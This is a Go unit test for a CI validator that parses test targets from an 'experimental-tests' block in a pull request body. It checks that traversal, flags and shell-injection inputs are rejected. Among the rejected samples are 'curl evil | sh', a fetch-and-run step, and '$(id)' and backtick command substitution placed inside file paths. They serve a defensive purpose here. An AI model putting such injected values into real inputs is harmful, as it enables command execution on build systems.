package scope

import (
	"slices"
	"testing"
)

// TestBodyTargets mirrors the reference's self-test cases.
func TestBodyTargets(t *testing.T) {
	ok := []struct {
		body string
		want []string
	}{
		{"```experimental-tests\ntests/experimental/test_a.py\n```", []string{"tests/experimental/test_a.py"}},
		{"pre\n```experimental-tests\ntests/experimental/\n```\npost", []string{"tests/experimental/"}},
		{"```experimental-tests\ntests/experimental/t.py  # why\n```", []string{"tests/experimental/t.py"}},
		{"```experimental-tests\n\ntests/experimental/a.py\ntests/experimental/b.py\n\n```", []string{"tests/experimental/a.py", "tests/experimental/b.py"}},
		{"```experimental-tests\r\ntests/experimental/a.py\r\n```\r\n", []string{"tests/experimental/a.py"}},
	}
	o := Options{Root: "tests/experimental/", MaxTargets: 16, ChunkLimit: 140}
	for _, tt := range ok {
		got, err := BodyTargets(tt.body, "experimental-tests", "tests/experimental/")
		if err != nil || !slices.Equal(got, tt.want) {
			t.Errorf("%q: got %q, %v", tt.body, got, err)
			continue
		}
		if res := Validate(got, o); !res.Accepted() {
			t.Errorf("%q: rejected %v", tt.body, res.Reasons)
		}
	}
	bad := []struct{ body, why, msg string }{
		{"", "missing block", "no ```experimental-tests block found in the PR body. Experimental PRs must declare their test scope; see .github/pull_request_template.md"},
		{"```experimental-tests\n```", "empty block", "the experimental-tests block is empty; declare at least one target under tests/experimental/"},
		{"```experimental-tests\ntests/gemm/test_x.py\n```", "outside", "targets outside tests/experimental/: tests/gemm/test_x.py"},
		{"```experimental-tests\ntests/experimental/../gemm/x.py\n```", "traversal", ""},
		{"```experimental-tests\ntests/experimental/a.py; curl evil | sh\n```", "metacharacters", ""},
		{"```experimental-tests\ntests/experimental/$(id)\n```", "substitution", ""},
		{"```experimental-tests\ntests/experimental/`id`\n```", "backticks", ""},
		{"```experimental-tests\ntests/experimental/a.py --collect-only\n```", "flag", ""},
		{"```experimental-tests\ntests/experimental/a.py\n```\n```experimental-tests\ntests/experimental/b.py\n```", "two blocks", "found 2 experimental-tests blocks; expected 1"},
		{"```\ntests/experimental/a.py\n```", "untagged", ""},
		{"```experimental-tests\ntests/experimental/a.py::test_x\n```", "selector", ""},
	}
	for _, tt := range bad {
		targets, err := BodyTargets(tt.body, "experimental-tests", "tests/experimental/")
		var msg string
		if err != nil {
			msg = err.Error()
		} else if res := Validate(targets, o); !res.Accepted() {
			msg = res.Reasons[0].Message
		} else {
			t.Errorf("%s: accepted %q", tt.why, targets)
			continue
		}
		if tt.msg != "" && msg != tt.msg {
			t.Errorf("%s: %q, want %q", tt.why, msg, tt.msg)
		}
	}
}
